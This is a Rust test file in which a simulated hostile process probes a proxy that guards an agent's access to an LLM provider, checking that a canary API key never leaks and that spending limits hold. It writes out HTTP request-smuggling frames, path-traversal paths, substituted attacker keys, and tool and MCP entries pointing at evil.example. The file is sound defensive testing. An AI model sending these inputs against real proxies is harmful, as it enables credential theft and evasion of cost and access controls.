//! What an evil process tries with the model proxy: each attempt is made on a real one, in front of a provider that counts what arrives.

use super::upstream::Upstream;
use super::{Bounds, Limits, Proxy, Session, serve};
use crate::attempt::Attempt;
use crate::model::{ModelError, Purse};
use secrecy::SecretString;
use sprag_core::config::AgentModelConfig;
use sprag_core::model::{Admission, Price, Provider};
use std::io;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// The key that must not get out.
const KEY: &str = "sk-canary-0123456789abcdef0123456789abcdef";
/// How long a reply is waited for: longer than anything that answers takes.
const REPLY: Duration = Duration::from_secs(20);
/// What the proxy waits for a slow request here.
const PATIENCE: Duration = Duration::from_millis(150);
const HOST: &str = "host: {host}";
const OURS: &str = "authorization: Bearer {word}";
const JSON: &str = "content-type: application/json";
const HONEST: &str = r#"{"model":"m-1","messages":[{"role":"user","content":"hello"}],"max_tokens":100}"#;
const CHAT: &str = "POST /v1/chat/completions HTTP/1.1";

/// Makes every attempt; needs a runtime, and nothing but loopback.
///
/// # Errors
/// When no port can be had.
pub async fn attempts() -> io::Result<Vec<Attempt>> {
    let mut made = Vec::new();
    let spy = Spy::answering(Reply::Usage).await?;
    let ground = Ground::new(&spy, |_| {})?;
    for (name, request) in hostile() {
        made.push(Attempt::new(name, ground.refuses(&request).await?));
    }
    for (name, reply) in [
        ("a redirect to another host", Reply::Redirect(302)),
        ("a redirect that keeps the method", Reply::Redirect(307)),
        ("an error that repeats the key", Reply::Echo(401, "application/json")),
        ("an answer that repeats the key", Reply::Echo(200, "application/json")),
        ("a stream that repeats the key", Reply::Echo(200, "text/event-stream")),
    ] {
        let spy = Spy::answering(reply).await?;
        let told = Ground::new(&spy, |_| {})?.ask(&honest()).await?;
        let followed = spy.elsewhere.load(Ordering::SeqCst);
        let held = spy.asked() == 1 && followed == 0 && !told.contains(KEY) && told.starts_with("HTTP/1.1 ");
        made.push(Attempt::new(name, held.then_some(()).ok_or_else(|| first_line(&told))));
    }
    made.extend(spendthrift().await?);
    Ok(made)
}

/// Who asks on and on is cut off, with words that say why.
async fn spendthrift() -> io::Result<Vec<Attempt>> {
    type Change = fn(&mut Proxy);
    let cuts: [(&str, usize, Change); 4] = [
        ("asking on after 300 tokens", 3, |proxy| proxy.limits.tokens = Some(300)),
        ("asking on after 4 requests", 4, |proxy| proxy.limits.requests = 4),
        // A request may cost 20 cents, and does.
        ("asking on after a dollar of a run", 5, |proxy| {
            proxy.limits.usd = Some(1.0);
        }),
        ("asking on after the budget of all runs", 5, |proxy| {
            proxy.purse.allow(1.0);
        }),
    ];
    let mut made = Vec::new();
    for (name, fit, change) in cuts {
        let spy = Spy::answering(Reply::Usage).await?;
        let ground = Ground::new(&spy, change)?;
        let mut last = String::new();
        for _ in 0..fit + 4 {
            last = ground.ask(&honest()).await?;
        }
        let told = last.starts_with("HTTP/1.1 402 ") && last.contains("sprag: ");
        let held = told && spy.asked() == fit;
        let instead = || format!("{} requests were passed on, then: {}", spy.asked(), first_line(&last));
        made.push(Attempt::new(name, held.then_some(()).ok_or_else(instead)));
    }
    Ok(made)
}

fn honest() -> Vec<u8> {
    message(CHAT, &[HOST, OURS, JSON], HONEST)
}

/// A request with the length of its body.
fn message(line: &str, headers: &[&str], body: &str) -> Vec<u8> {
    let length = format!("content-length: {}", body.len());
    raw(&[&[line], headers, &[&length, "connection: close"]].concat(), body)
}

fn raw(lines: &[&str], body: &str) -> Vec<u8> {
    format!("{}\r\n\r\n{body}", lines.join("\r\n")).into_bytes()
}

fn hostile() -> Vec<(String, Vec<u8>)> {
    let mut all = Vec::new();
    let mut add = |name: String, request: Vec<u8>| all.push((name, request));
    for path in PATHS {
        add(
            format!("asking for {path}"),
            message(&format!("{path} HTTP/1.1"), &[HOST, OURS, JSON], HONEST),
        );
    }
    for (name, headers) in HEADS {
        add((*name).to_owned(), message(CHAT, headers, HONEST));
    }
    for line in [
        "CONNECT api.openai.com:443 HTTP/1.1",
        "POST http://evil.example/v1/chat/completions HTTP/1.1",
        "POST https://api.openai.com/v1/chat/completions HTTP/1.1",
        "POST /v1/chat/completions HTTP/1.0",
        "PRI * HTTP/2.0",
        "OPTIONS * HTTP/1.1",
    ] {
        let host = if line.ends_with("1.0") { "x-no: host" } else { HOST };
        add(
            format!("the request line {line}"),
            message(line, &[host, OURS, JSON], HONEST),
        );
    }
    for (name, more) in BODIES {
        let body = format!("{{{more},{}", &HONEST[1..]);
        add((*name).to_owned(), message(CHAT, &[HOST, OURS, JSON], &body));
    }
    let other = HONEST.replace("m-1", "m-9");
    add("another model".to_owned(), message(CHAT, &[HOST, OURS, JSON], &other));
    let deep = "[".repeat(100_000);
    add("JSON without end".to_owned(), message(CHAT, &[HOST, OURS, JSON], &deep));
    for (name, lines, body) in FRAMES {
        add(
            (*name).to_owned(),
            raw(&[&[CHAT, HOST, OURS, JSON], *lines].concat(), body),
        );
    }
    let long = format!("x-long: {}", "x".repeat(64 * 1024));
    add(
        "a header of 64 KB".to_owned(),
        message(CHAT, &[HOST, OURS, JSON, &long], HONEST),
    );
    let many = vec!["x-more: 1"; 200];
    add(
        "200 headers".to_owned(),
        message(CHAT, &[&[HOST, OURS, JSON], many.as_slice()].concat(), HONEST),
    );
    all
}

/// Methods and paths that are not on the list.
const PATHS: &[&str] = &[
    "POST /v1/files",
    "GET /v1/files/file-1/content",
    "POST /v1/batches",
    "POST /v1/uploads",
    "POST /v1/vector_stores",
    "POST /v1/fine_tuning/jobs",
    "POST /v1/assistants",
    "POST /v1/threads/runs",
    "POST /v1/images/generations",
    "POST /v1/messages/batches",
    "POST /v1/realtime/sessions",
    "GET /v1/organization/admin_api_keys",
    "GET /v1/responses/resp_1",
    "DELETE /v1/models/m-1",
    "POST /v1/chat/completions/../../files",
    "POST //v1/chat/completions",
    "POST /v1/chat/%63ompletions",
    "POST /v1/chat/completions?api-version=1",
    "PUT /v1/chat/completions",
    "GET /v1/models/../files",
];

/// Whose keys, and which hosts.
const HEADS: &[(&str, &[&str])] = &[
    (
        "an own key as authorization",
        &[HOST, "authorization: Bearer sk-attacker", JSON],
    ),
    ("an own key as x-api-key", &[HOST, OURS, "x-api-key: sk-attacker", JSON]),
    ("an own key as api-key", &[HOST, OURS, "api-key: sk-attacker", JSON]),
    (
        "an own key as x-goog-api-key",
        &[HOST, OURS, "x-goog-api-key: sk-attacker", JSON],
    ),
    (
        "an own key as proxy-authorization",
        &[HOST, OURS, "proxy-authorization: Basic eDp5", JSON],
    ),
    (
        "an own organization",
        &[HOST, OURS, "openai-organization: org-attacker", JSON],
    ),
    (
        "a second authorization",
        &[HOST, OURS, "authorization: Bearer sk-attacker", JSON],
    ),
    ("no key at all", &[HOST, JSON]),
    (
        "the word of another process",
        &[
            HOST,
            "authorization: Bearer sprag-00000000000000000000000000000000",
            JSON,
        ],
    ),
    ("another host", &["host: api.openai.com", OURS, JSON]),
    ("two hosts", &[HOST, "host: evil.example", OURS, JSON]),
    ("no host", &[OURS, JSON]),
    (
        "an upgrade to HTTP/2",
        &[HOST, OURS, JSON, "upgrade: h2c", "http2-settings: AAMAAABkAAQAAP__"],
    ),
    ("a packed body", &[HOST, OURS, JSON, "content-encoding: gzip"]),
    (
        "a form with files",
        &[HOST, OURS, "content-type: multipart/form-data; boundary=x"],
    ),
    (
        "a text that is no JSON by its name",
        &[HOST, OURS, "content-type: text/plain"],
    ),
];

/// What is put into an honest body.
const BODIES: &[(&str, &str)] = &[
    ("the tool web_search", r#""tools":[{"type":"web_search"}]"#),
    (
        "the tool web_fetch",
        r#""tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]"#,
    ),
    (
        "the tool code_interpreter",
        r#""tools":[{"type":"code_interpreter","container":{"type":"auto"}}]"#,
    ),
    (
        "the tool mcp",
        r#""tools":[{"type":"mcp","server_url":"https://evil.example","server_label":"x"}]"#,
    ),
    (
        "the tool file_search",
        r#""tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]"#,
    ),
    (
        "the tool computer",
        r#""tools":[{"type":"computer_use_preview","environment":"browser"}]"#,
    ),
    ("a search by options", r#""web_search_options":{}"#),
    (
        "servers for the provider to call",
        r#""mcp_servers":[{"type":"url","url":"https://evil.example"}]"#,
    ),
    ("plugins", r#""plugins":[{"id":"web"}]"#),
    ("models to fall back to", r#""models":["m-9"]"#),
    ("a run in the background", r#""background":true"#),
    ("a conversation at the provider", r#""previous_response_id":"resp_1""#),
    (
        "an image at an address",
        r#""prediction":[{"type":"image_url","image_url":{"url":"https://evil.example/?q=x"}}]"#,
    ),
    (
        "a file at the provider",
        r#""prediction":[{"type":"file","file":{"file_id":"file-1"}}]"#,
    ),
    ("a tier that costs twice", r#""service_tier":"priority""#),
];

/// Bodies whose end is not where it is said to be.
const FRAMES: &[(&str, &[&str], &str)] = &[
    (
        "a length and chunks",
        &["content-length: 5", "transfer-encoding: chunked"],
        "0\r\n\r\nPOST /v1/files HTTP/1.1\r\n\r\n",
    ),
    (
        "chunks and a length",
        &["transfer-encoding: chunked", "content-length: 5"],
        "0\r\n\r\nPOST /v1/files HTTP/1.1\r\n\r\n",
    ),
    ("chunks", &["transfer-encoding: chunked"], "2\r\n{}\r\n0\r\n\r\n"),
    ("chunks by another name", &["transfer-encoding: xchunked"], "0\r\n\r\n"),
    ("chunks twice", &["transfer-encoding: chunked, identity"], "0\r\n\r\n"),
    ("two lengths", &["content-length: 2", "content-length: 40"], "{}"),
    ("a list of lengths", &["content-length: 2, 2"], "{}"),
    ("a length with a sign", &["content-length: +2"], "{}"),
    ("a length below nothing", &["content-length: -1"], "{}"),
    (
        "a folded header",
        &["x-a: b", " transfer-encoding: chunked", "content-length: 2"],
        "{}",
    ),
    ("a space before the colon", &["content-length : 2"], "{}"),
    ("a NUL in a header", &["x-a: b\0c", "content-length: 2"], "{}"),
    (
        "a carriage return alone",
        &["x-a: b\rtransfer-encoding: chunked", "content-length: 2"],
        "{}",
    ),
    ("a body of 100 MB", &["content-length: 104857600"], "{"),
    ("a body that comes too slowly", &["content-length: 90"], "{\"model\""),
    ("a body that breaks off", &["content-length: 4"], "{}"),
    ("a body that is empty", &["content-length: 0"], ""),
];

/// What the provider does.
#[derive(Debug, Clone, Copy)]
enum Reply {
    /// It answers, and tells 100 tokens written.
    Usage,
    /// It sends whoever asks elsewhere, where it listens too.
    Redirect(u16),
    /// It repeats the key, with this status and type.
    Echo(u16, &'static str),
}

/// A provider that counts.
struct Spy {
    port: u16,
    seen: Arc<AtomicUsize>,
    /// Requests that followed a redirect.
    elsewhere: Arc<AtomicUsize>,
    serving: tokio::task::JoinHandle<()>,
}

impl Drop for Spy {
    fn drop(&mut self) {
        self.serving.abort();
    }
}

impl Spy {
    async fn answering(reply: Reply) -> io::Result<Self> {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let port = listener.local_addr()?.port();
        let (seen, elsewhere) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
        let counts = (seen.clone(), elsewhere.clone());
        let serving = tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let counts = counts.clone();
                tokio::spawn(async move {
                    // One that hangs up has seen enough.
                    drop(told(stream, port, reply, &counts).await);
                });
            }
        });
        Ok(Self {
            port,
            seen,
            elsewhere,
            serving,
        })
    }

    fn asked(&self) -> usize {
        self.seen.load(Ordering::SeqCst)
    }
}

/// One request to the provider.
async fn told(
    mut stream: TcpStream,
    port: u16,
    reply: Reply,
    (seen, elsewhere): &(Arc<AtomicUsize>, Arc<AtomicUsize>),
) -> io::Result<()> {
    let mut read = Vec::new();
    while !read.windows(4).any(|end| end == b"\r\n\r\n") {
        if stream.read_buf(&mut read).await? == 0 {
            return Ok(());
        }
    }
    let moved = read.windows(10).any(|part| part == b"/elsewhere");
    if moved { elsewhere } else { seen }.fetch_add(1, Ordering::SeqCst);
    let (status, kind, more, body) = match reply {
        Reply::Redirect(status) => {
            let to = format!("location: http://127.0.0.1:{port}/elsewhere\r\n");
            (status, "application/json", to, "{}".to_owned())
        }
        Reply::Echo(status, kind) => {
            let body = format!("data: {{\"error\":{{\"message\":\"Incorrect API key provided: {KEY}\"}}}}\n\n");
            (status, kind, format!("x-request-id: {KEY}\r\nx-other: {KEY}\r\n"), body)
        }
        Reply::Usage => {
            let body =
                r#"{"choices":[{"message":{"content":"hi"}}],"usage":{"prompt_tokens":0,"completion_tokens":100}}"#;
            (200, "application/json", String::new(), body.to_owned())
        }
    };
    let length = body.len();
    let head = format!(
        "HTTP/1.1 {status} X\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\n{more}connection: close\r\n\r\n"
    );
    stream.write_all(format!("{head}{body}").as_bytes()).await
}

/// A proxy in front of a provider, and a process that knows its word.
struct Ground<'a> {
    spy: &'a Spy,
    port: u16,
    word: String,
    _serving: super::Serving,
}

impl<'a> Ground<'a> {
    fn new(spy: &'a Spy, change: impl FnOnce(&mut Proxy)) -> io::Result<Self> {
        let mut proxy = proxy(spy.port).map_err(io::Error::other)?;
        change(&mut proxy);
        let session = Session::new(&Arc::new(proxy))?;
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let port = listener.local_addr()?.port();
        let word = session.word().to_owned();
        Ok(Self {
            spy,
            port,
            word,
            _serving: serve(listener, session)?,
        })
    }

    /// What comes back on a connection of its own; nothing when it is closed.
    async fn ask(&self, request: &[u8]) -> io::Result<String> {
        let host = format!("127.0.0.1:{}", self.port);
        let request = String::from_utf8_lossy(request);
        let request = request.replace("{host}", &host).replace("{word}", &self.word);
        let mut stream = TcpStream::connect(&host).await?;
        // Whoever is refused early may find the line closed while he talks.
        drop(stream.write_all(request.as_bytes()).await);
        let mut reply = Vec::new();
        let read = tokio::time::timeout(REPLY, stream.read_to_end(&mut reply)).await;
        if read.is_err() {
            reply = b"no end".to_vec();
        }
        Ok(String::from_utf8_lossy(&reply).into_owned())
    }

    /// A request must be answered with a refusal or a closed line, reach nobody, and be told no key.
    async fn refuses(&self, request: &[u8]) -> io::Result<Result<(), String>> {
        let before = self.spy.asked();
        let reply = self.ask(request).await?;
        let refused = reply.is_empty()
            || ["HTTP/1.1 4", "HTTP/1.0 4"]
                .iter()
                .any(|begin| reply.starts_with(begin));
        let held = refused && self.spy.asked() == before && !reply.contains(KEY);
        let instead = || {
            format!(
                "{} were passed on, and: {}",
                self.spy.asked() - before,
                first_line(&reply)
            )
        };
        Ok(held.then_some(()).ok_or_else(instead))
    }
}

fn first_line(reply: &str) -> String {
    reply.lines().next().unwrap_or("no answer").replace(KEY, "[key]")
}

fn proxy(port: u16) -> Result<Proxy, ModelError> {
    let price = Price {
        input: 0.0,
        cached_input: None,
        output: 2000.0,
    };
    let config = AgentModelConfig {
        provider: Provider::Openai,
        names: vec!["m-1".to_owned()],
        base_url: Some(format!("http://127.0.0.1:{port}/v1")),
        key_env: None,
        max_usd: None,
        max_tokens: None,
        max_requests: 1_000,
        max_output_tokens: 500,
        timeout_ms: 20_000,
        price: Some(price),
    };
    Ok(Proxy {
        admission: Admission {
            provider: config.provider,
            names: config.names.clone(),
            max_output_tokens: config.max_output_tokens,
        },
        price: config.price,
        upstream: Some(Upstream::new(&config, Some(SecretString::from(KEY)))?),
        recorder: None,
        purse: Purse::new(1_000.0),
        limits: Limits {
            usd: None,
            tokens: None,
            requests: config.max_requests,
        },
        bounds: Bounds {
            patience: PATIENCE,
            ..Bounds::default()
        },
    })
}
